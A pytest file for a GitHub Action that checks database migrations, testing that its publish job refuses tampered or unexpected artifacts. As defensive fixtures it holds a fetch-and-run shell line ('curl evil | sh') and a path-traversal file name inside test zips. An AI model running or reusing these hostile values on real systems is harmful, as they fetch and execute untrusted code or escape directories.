"""The split setup: `mode: verify` runs the pull request's code with a read-only token and writes an
artifact; `mode: publish`, on workflow_run, downloads it through the REST API (list, zip, redirect to
the storage host), treats it as untrusted, and publishes on the commit and pull request GitHub's
event names. Against the fake GitHub, which validates every request against the OpenAPI description."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest
from action_harness import (
    FORK_OWNER,
    PR,
    VERIFY_RUN_ID,
    ActionRun,
    Scenario,
    upload_artifact,
    zip_of,
)
from fakegithub import FakeGitHub
from fakegithub.webhooks import workflow_run_completed
from test_action import add_orders_without_downgrade
from test_verify_passes import add_orders

from migbot.catalog import CHECKS
from migbot.errors import UsageError
from migbot.github.artifact import (
    MAX_ARTIFACT_BYTES,
    MAX_REPORT_BYTES,
    RefusedArtifact,
    read_artifact,
)
from migbot.github.events import Ignore, VerifyRun, read_trigger
from migbot.github.sticky import project_marker

MARKER = project_marker("alembic.ini")
BOT = "github-actions[bot]"
ARTIFACT_CALLS = ["actions/list-workflow-run-artifacts", "actions/download-artifact"]


@dataclass
class Verified:
    """One verify job's run, shared by the module's publish tests (it is the slow part)."""

    scenario: Scenario
    run: ActionRun
    requests: list
    files: dict[str, bytes]  # the .migbot folder the workflow uploads
    env_py_ran: Path  # the head's env.py appends to this file whenever it runs

    @property
    def artifact(self) -> bytes:
        return zip_of(self.files)

    def tampered(self, report=None, request=None) -> bytes:
        files = {name: json.loads(data) for name, data in self.files.items()}
        if report:
            report(files["report.json"])
        if request:
            request(files["publish-request.json"])
        return zip_of({name: json.dumps(data) for name, data in files.items()})


@pytest.fixture(scope="module")
def verified(tmp_path_factory) -> Verified:
    tmp = tmp_path_factory.mktemp("split")
    env_py_ran = tmp / "env-py-ran"
    with FakeGitHub() as fake:
        scenario = Scenario(tmp, fake)
        add_orders(scenario.repo)
        scenario.repo.replace("alembic/env.py", "config = context.config",
                              f"open({str(env_py_ran)!r}, 'a').write('ran\\n')\nconfig = context.config")
        scenario.repo.commit("env.py leaves a mark whenever it runs")
        scenario.open_pull()
        run = scenario.verify_job()
        requests = fake.requests
        fake.assert_no_violations()
    folder = run.workspace / ".migbot"
    files = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert env_py_ran.exists(), run.log  # the verify job did run the head's env.py
    return Verified(scenario, run, requests, files, env_py_ran)


@pytest.fixture
def split(verified) -> Scenario:
    """The verified scenario on a fresh fake GitHub, its pull request open at the verified head."""
    with FakeGitHub() as fake:
        fake.set_permission("maintainer", "maintain")
        scenario = verified.scenario
        scenario.fake = fake
        fake.add_pull(PR, scenario.head, scenario.base, scenario.head_ref)
        verified.env_py_ran.unlink(missing_ok=True)
        yield scenario
        fake.assert_no_violations()


def ours(fake: FakeGitHub):
    return [c for c in fake.comments(PR) if c.login == BOT and c.body.startswith(MARKER)]


def operations(fake: FakeGitHub) -> list[str]:
    return [r.operation_id for r in fake.requests]


# --- mode: verify ----------------------------------------------------------------------------------
def test_verify_mode_makes_no_call_to_github_and_writes_the_artifact_folder(verified):
    run, scenario = verified.run, verified.scenario
    assert run.exit_code == 0, run.log
    assert verified.requests == []  # not a write, not even a read: this job holds no GitHub client
    assert set(verified.files) == {"report.json", "publish-request.json"}
    request = json.loads(verified.files["publish-request.json"])
    assert request == {"kind": "migbot-publish-request", "version": 1, "event": "pull_request",
                       "pull_request": PR, "base_sha": scenario.base, "head_sha": scenario.head,
                       "projects": ["alembic.ini"], "result": "pass", "error": None}
    report = json.loads(verified.files["report.json"])
    assert report["refs"]["head"] == scenario.head and report["result"] == "pass"
    assert run.outputs["result"] == "pass" and run.outputs["report"] == ".migbot/report.json"
    assert "`mode: verify`" in run.summary and "`orders`" in run.summary


def test_verify_mode_fails_the_job_per_fail_on_and_still_writes_the_artifact(tmp_path):
    with FakeGitHub() as fake:
        scenario = Scenario(tmp_path, fake)
        add_orders_without_downgrade(scenario)
        scenario.open_pull()
        run = scenario.verify_job()
        assert fake.requests == []
    assert run.exit_code == 1, run.log
    assert "::error file=alembic/versions/0003.py" in run.stdout  # annotations need no token
    files = {p.name: p.read_bytes() for p in (run.workspace / ".migbot").iterdir()}
    assert json.loads(files["publish-request.json"])["result"] == "fail"
    assert read_artifact(upload_artifact(run.workspace / ".migbot"))[1].result == "fail"


def test_verify_mode_that_could_not_run_says_why_in_the_artifact_and_publish_sets_error(split, verified):
    run = split.verify_job(inputs={"install": "echo resolving deps; exit 7"})
    assert run.exit_code == 3, run.log
    folder = run.workspace / ".migbot"
    assert sorted(p.name for p in folder.iterdir()) == ["publish-request.json"]
    assert [r for r in split.fake.requests] == []

    published = split.publish_job(upload_artifact(folder))
    assert published.exit_code == 0, published.log
    status = split.fake.statuses(split.head)[-1]
    assert status.state == "error"
    assert status.description.startswith("Could not run: The install command failed with exit code 7")
    assert ours(split.fake) == []


def test_verify_mode_answers_no_comment(split):
    workspace = split.checkout("main")
    payload = split.event("issue_comment-on-pull-request/created.payload.json", body="/migbot verify")
    run = split.run("issue_comment", payload, workspace, inputs={"mode": "verify"})
    assert run.exit_code == 0 and run.outputs == {"result": "skipped"}
    assert split.fake.requests == []


# --- mode: publish ---------------------------------------------------------------------------------
def test_publish_downloads_the_artifact_and_publishes_like_a_single_job(split, verified):
    workspace = split.checkout(f"refs/pull/{PR}/head")  # even with the project's code at hand
    run = split.publish_job(verified.artifact, workspace=workspace)

    assert run.exit_code == 0, run.log
    fake = split.fake
    assert [(s.state, s.context) for s in fake.statuses(split.head)] == [("pending", "migbot"), ("success", "migbot")]
    assert fake.statuses(split.head)[-1].description == f"All {len(CHECKS)} checks passed"
    assert {s.target_url for s in fake.statuses(split.head)} == {split.verify_run_url}
    [comment] = ours(fake)
    assert "## Database Task Summary" in comment.body and "`orders`" in comment.body
    assert f"/blob/{split.head}/alembic/versions/0003.py" in comment.body
    # The artifact came through the REST API: list, then the zip, which redirects to the storage host.
    listing = [r for r in fake.requests if r.operation_id == "actions/list-workflow-run-artifacts"]
    assert [r.path for r in listing] == [f"/repos/{fake.full_name}/actions/runs/{VERIFY_RUN_ID}/artifacts"]
    assert "name" not in listing[0].query  # every artifact of the run: a monorepo's matrix uploads one per project
    [blob] = fake.blob_requests
    assert blob.status == 200 and blob.authorization is None  # the token stays with the API
    assert "pulls/list" not in operations(fake)  # GitHub named the pull request in the event
    # None of the project's code ran: not env.py (it leaves a mark), no worker, no install.
    assert not verified.env_py_ran.exists()
    assert "`orders`" in run.summary and "published the result of the [verify run]" in run.summary
    assert "::error file=" not in run.stdout  # annotations are the verify job's
    assert run.outputs["result"] == "pass"


def test_publish_edits_its_comment_on_the_next_run(split, verified):
    assert split.publish_job(verified.artifact).exit_code == 0
    [first] = ours(split.fake)
    rerun = split.publish_job(verified.artifact)
    assert rerun.exit_code == 0, rerun.log
    assert [c.id for c in ours(split.fake)] == [first.id]


def test_a_fork_pull_request_is_found_by_its_head_and_published_without_a_maintainer(split, verified):
    fake = split.fake
    fake.add_pull(PR, split.head, split.base, split.head_ref, fork=True)
    run = split.publish_job(verified.artifact, fork=True)

    assert run.exit_code == 0, run.log
    [listing] = [r for r in fake.requests if r.operation_id == "pulls/list"]
    assert listing.query["head"] == f"{FORK_OWNER}:{split.head_ref}" and listing.query["state"] == "open"
    assert [s.state for s in fake.statuses(split.head)] == ["pending", "success"]
    assert len(ours(fake)) == 1


def test_a_fork_whose_head_moved_gets_the_status_on_the_verified_commit_only(split, verified):
    fake = split.fake
    fake.add_pull(PR, "e" * 40, split.base, split.head_ref, fork=True)  # pushed again since
    run = split.publish_job(verified.artifact, fork=True)

    assert run.exit_code == 0, run.log
    assert [s.state for s in fake.statuses(split.head)] == ["pending", "success"]
    assert fake.statuses("e" * 40) == [] and ours(fake) == []
    assert "No open pull request has" in run.summary


def test_a_head_moved_before_publishing_leaves_the_newer_summary_alone(split, verified):
    fake = split.fake
    newer = f"{MARKER}\nthe newer commit's summary"
    fake.add_comment(PR, newer, login=BOT, user_type="Bot")
    # GitHub linked the run to #7 when it finished; the author pushed again before the publish job ran.
    fake.add_pull(PR, "e" * 40, split.base, split.head_ref)
    run = split.publish_job(verified.artifact)

    assert run.exit_code == 0, run.log
    assert [c.body for c in ours(fake)] == [newer]
    assert [s.state for s in fake.statuses(split.head)] == ["pending", "success"]
    assert f"moved to `{'e' * 40}`" in run.summary


def refused(split: Scenario, run: ActionRun, why: str) -> None:
    assert run.exit_code == 1, run.log
    status = split.fake.statuses(split.head)[-1]
    assert status.state == "error" and status.description.startswith("Refused the verify run's artifact: ")
    assert why in run.stdout, run.stdout  # the error annotation (the summary escapes "#8" and the like)
    assert ours(split.fake) == []
    assert run.outputs["result"] == "error"


def test_an_artifact_for_another_head_is_refused(split, verified):
    other = "b" * 40
    run = split.publish_job(verified.tampered(report=lambda r: r["refs"].update(head=other),
                                              request=lambda q: q.update(head_sha=other)))
    refused(split, run, f"the artifact is for commit {other}, but the run verified {split.head}")
    assert split.fake.statuses(other) == []


def test_a_report_that_disagrees_with_its_request_is_refused(split, verified):
    run = split.publish_job(verified.tampered(report=lambda r: r["refs"].update(head="b" * 40)))
    refused(split, run, "disagree about what was verified")


def test_an_artifact_naming_another_pull_request_is_refused(split, verified):
    run = split.publish_job(verified.tampered(request=lambda r: r.update(pull_request=8)))
    refused(split, run, "the artifact names pull request #8, but the run was for #7")


def test_a_report_that_claims_a_pass_its_checks_do_not_give_is_refused(split, verified):
    def lie(report):
        report["projects"][0]["checks"][0]["status"] = "fail"

    run = split.publish_job(verified.tampered(report=lie))
    refused(split, run, "does not add up")


def test_an_unexpected_file_in_the_artifact_is_refused(split, verified):
    run = split.publish_job(zip_of({**verified.files, "run-me.sh": "curl evil | sh"}))
    refused(split, run, "files migbot does not expect: 'run-me.sh'")


def test_an_artifact_github_reports_as_oversized_is_not_downloaded(split, verified):
    run = split.publish_job(verified.artifact, size_in_bytes=MAX_ARTIFACT_BYTES + 1)
    refused(split, run, "larger than 8 MiB")
    assert split.fake.blob_requests == []


def test_a_member_that_unpacks_past_its_limit_is_refused(split, verified):
    bomb = zip_of({**verified.files, "report.json": b" " * (MAX_REPORT_BYTES + 1)})  # a few KB zipped
    assert len(bomb) < 100_000
    run = split.publish_job(bomb)
    refused(split, run, "report.json is larger than 32 MiB unpacked")


def test_a_missing_artifact_gives_an_error_status_with_the_runs_conclusion(split):
    run = split.publish_job(None, conclusion="cancelled")
    assert run.exit_code == 0, run.log
    status = split.fake.statuses(split.head)[-1]
    assert (status.state, status.description) == ("error", "The verify run ended cancelled without a result")
    assert status.target_url == split.verify_run_url
    assert ours(split.fake) == [] and split.fake.blob_requests == []


def test_an_expired_artifact_gives_an_error_status_and_is_not_downloaded(split, verified):
    run = split.publish_job(verified.artifact, expired=True)
    assert run.exit_code == 0, run.log
    status = split.fake.statuses(split.head)[-1]
    assert (status.state, status.description) == ("error", "The verify run's result has expired; re-run it")
    assert "actions/download-artifact" not in operations(split.fake)


def test_github_names_only_this_repositorys_pull_requests_with_the_runs_head(split):
    payload = workflow_run_completed(split.fake, run_id=VERIFY_RUN_ID, head_sha=split.head, head_branch="feature",
                                     pulls=[{"number": 7, "head_sha": split.head, "head_ref": "feature"},
                                            {"number": 8, "head_sha": "e" * 40, "head_ref": "feature"},
                                            {"number": 9, "head_sha": split.head, "head_ref": "feature",
                                             "base_repo_id": 42}])  # a pull request in another repository
    trigger = read_trigger("workflow_run", payload, split.fake.full_name, "publish")
    assert isinstance(trigger, VerifyRun) and trigger.pull_numbers == [7]
    assert (trigger.head_sha, trigger.run_id, trigger.event) == (split.head, VERIFY_RUN_ID, "pull_request")
    payload["workflow_run"]["event"] = "push"
    assert isinstance(read_trigger("workflow_run", payload, split.fake.full_name, "publish"), Ignore)
    with pytest.raises(UsageError):
        read_trigger("pull_request", payload, split.fake.full_name, "publish")


def test_a_merge_group_run_gets_the_status_and_no_comment(split, verified):
    def queue(request):
        request.update(event="merge_group", pull_request=None)

    run = split.publish_job(verified.tampered(request=queue), event="merge_group")
    assert run.exit_code == 0, run.log
    assert [s.state for s in split.fake.statuses(split.head)] == ["pending", "success"]
    assert ours(split.fake) == [] and "pulls/list" not in operations(split.fake)


def test_publish_refuses_an_install_command_and_makes_no_call(split, verified):
    ran = split.tmp / "install-ran"
    run = split.publish_job(verified.artifact, inputs={"install": f"touch {ran}"})
    assert run.exit_code == 2
    assert "`mode: publish` runs none of the project's code" in run.stdout
    assert not ran.exists() and split.fake.requests == []


def test_workflow_run_outside_publish_mode_is_a_usage_error(split, verified):
    run = split.publish_job(verified.artifact, inputs={"mode": "single"})
    assert run.exit_code == 2 and "only as `mode: publish`" in run.stdout
    assert split.fake.requests == []


def test_in_publish_mode_verify_commands_get_a_reply_and_run_nothing(split):
    run = split.comment("/migbot verify", author="maintainer", inputs={"mode": "publish"})
    assert run.exit_code == 0, run.log
    assert run.outputs["result"] == "answered"
    [reply] = [c for c in split.fake.comments(PR) if c.id != split.comment_id]
    assert "re-run the verify workflow" in reply.body and "nothing was run" in reply.body
    assert operations(split.fake) == ["issues/create-comment"]  # no permission check, no reaction, no status

    help_run = split.comment("/migbot help", author="reader", inputs={"mode": "publish"})
    assert help_run.exit_code == 0 and "single-job setup" in split.fake.comments(PR)[-1].body


# --- the artifact reader, on its own ---------------------------------------------------------------
@pytest.mark.parametrize("files,why", [
    ({"publish-request.json": "{}", "../escape.json": "{}"}, "does not expect"),
    ({"report.json/": ""}, "does not expect"),
    ({"report.json": "{}"}, "has no publish-request.json"),
    ({"publish-request.json": '{"event": "push"}'}, "is not a publish request"),
    ({"publish-request.json": "not json"}, "is not a publish request"),
])
def test_the_reader_refuses_what_it_does_not_expect(files, why):
    with pytest.raises(RefusedArtifact, match=why):
        read_artifact(zip_of(files))


def test_the_reader_refuses_what_is_not_a_zip():
    with pytest.raises(RefusedArtifact, match="not a zip file"):
        read_artifact(b"PK\x03\x04 but not really")


def test_the_reader_refuses_a_report_of_another_schema_version(verified):
    files = dict(verified.files)
    report = json.loads(files["report.json"])
    report["schema_version"] = 99
    with pytest.raises(RefusedArtifact, match="schema_version 99"):
        read_artifact(zip_of({**files, "report.json": json.dumps(report)}))
